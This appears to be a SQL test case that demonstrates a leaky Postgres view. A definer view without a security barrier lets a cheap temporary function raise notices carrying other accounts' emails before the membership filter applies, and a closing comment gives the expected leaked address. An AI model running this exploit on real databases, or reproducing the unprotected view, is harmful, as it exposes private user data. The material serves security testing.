-- channel: view
-- object: public.my_contacts
-- says: A definer view filters by membership but is no barrier: a cheap function sees the rows first.
create view public.my_contacts as
select c.id, c.account_id, c.email
from public.contacts as c
where (c.account_id = any (array(
    select m.account_id
    from public.memberships as m
    where m.user_id = auth.uid() and m.status = 'active'
        and (m.valid_until is null or m.valid_until > now())
))) is true;
grant select on public.my_contacts to authenticated;
-- exploit as adam
create function pg_temp.spy(p text) returns boolean language plpgsql cost 0.0000001 as $$
begin
    raise notice 'saw %', p;
    return true;
end
$$;
select id from public.my_contacts where pg_temp.spy(email);
-- leaks when notice saw ben@bellows\.test
